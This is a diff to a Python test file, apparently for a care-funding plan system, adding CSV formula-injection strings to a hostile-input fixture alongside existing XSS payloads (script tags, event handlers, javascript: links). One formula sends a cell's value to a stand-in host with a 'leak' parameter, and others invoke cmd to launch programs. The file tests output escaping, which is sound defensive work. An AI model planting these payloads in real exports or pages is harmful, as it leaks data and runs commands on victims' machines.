@@ -43,6 +43,8 @@ HOSTILE_TEXT = f"""Opening paragraph of the hostile plan.
 """
 HOSTILE_TITLE = f"<script>window.{PWNED_FLAG}='title'</script> Local heading {{: onclick=\"window.{PWNED_FLAG}='attr'\" }}"
 SEARCHABLE_SCHEME = "Zebrafinch Community Reablement"
+CSV_FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
+                "+1+cmd|' /C notepad'!A0", "-2+3"]
 
 
 @dataclass(frozen=True)
@@ -90,9 +92,9 @@ def _rich_plan(fw_period: str = "2023-25") -> dict:
             if scheme["funding_source"] == rule["funding_stream"]:
                 scheme["type"] = rule["scheme_types"][0]
     metric = fw.items("metrics")[0]
-    goals = {period: 185.0 for period in fw.goal_periods(metric)}  # a goal for every period, as submitted needs
-    plan["metrics"][metric["id"]] = {"baseline": {"2022-23": 812.5},
-                                     "goals": {**goals, f"{years[0]} Q1": 200.0, f"{years[0]} Q2": 190.5}}
+    # An approved plan gives a goal for every period the framework declares (BCF216).
+    goals = {period: 200.0 - 9.5 * index for index, period in enumerate(fw.goal_periods(metric))}
+    plan["metrics"][metric["id"]] = {"baseline": {"2022-23": 812.5}, "goals": goals}
     plan["spend_by_category"] = [{"category": "Community", "amounts": {years[0]: 2_000_000}},
                                  {"category": "Acute", "amounts": {years[0]: 2_200_000}}]
     return plan
@@ -110,6 +112,11 @@ def _hostile_plan(rich: dict) -> dict:
     plan["schemes"][1]["name"] = f"<script>window.{PWNED_FLAG}='scheme'</script>"
     plan["risks"] = [{"risk": "<b onmouseover=alert(1)>hover</b>", "mitigation": HOSTILE_TEXT}]
     plan["related_documents"] = [{"title": "A javascript link", "link": "javascript:alert('related')"}]
+    # Text a spreadsheet would run as a formula if the open data wrote it as it is (OWASP CSV injection).
+    plan["schemes"][2]["provider"] = CSV_FORMULAS[0]
+    plan["schemes"][0]["provider"] = CSV_FORMULAS[1]
+    plan["capacity_demand"] = [{"service": CSV_FORMULAS[2], "kind": "demand", "source": CSV_FORMULAS[3],
+                                "months": {"2023-04": 12, "2023-05": 14.5}}]
     return plan
 
 
